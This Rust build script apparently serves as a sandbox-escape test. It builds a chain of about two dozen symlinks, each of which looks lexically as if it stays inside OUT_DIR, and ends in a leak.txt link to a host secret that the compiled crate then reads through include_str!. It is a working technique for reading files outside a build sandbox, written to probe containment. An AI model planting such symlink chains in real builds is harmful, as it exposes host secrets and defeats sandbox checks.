// A symlink out of OUT_DIR made of links that each look inside: s -> .,
// u1 -> s/.., u2 -> u1/.., ... (each step really climbs one directory out
// of OUT_DIR, since s is OUT_DIR itself), and leak.txt -> uN/<secret path>,
// which resolves to the host secret OHR_ESC_SECRET.  (A lexical check of
// each link alone sees nothing leave OUT_DIR.)  src/main.rs
// include_str!s leak.txt: the host's rustc follows the chain.
include!("../common.rs");
use std::os::unix::fs::symlink;

fn main() {
    esc::start();
    let out = esc::out_dir();
    let secret = esc::var("OHR_ESC_SECRET");
    // deep enough to reach / from any OUT_DIR of a plausible depth (the
    // host path is unknown under canonical paths; `..` at / stays there),
    // and short of the kernel's 40 links per lookup
    let depth = 24;
    let mut links = vec![("s".to_string(), ".".to_string())];
    let mut prev = "s".to_string();
    for i in 1..=depth {
        let name = format!("u{i}");
        links.push((name.clone(), format!("{prev}/..")));
        prev = name;
    }
    links.push(("leak.txt".into(), format!("{prev}/{}", secret.trim_start_matches('/'))));
    for (name, target) in &links {
        let p = out.join(name);
        let _ = std::fs::remove_file(&p);
        if let Err(e) = symlink(target, &p) {
            esc::report(&format!("blocked: symlink OUT_DIR/{name}: {e}"));
            return;
        }
    }
    esc::report(&format!(
        "info: planted OUT_DIR/leak.txt -> {} through {} links that each stay inside",
        links.last().unwrap().1,
        links.len() - 1
    ));
}
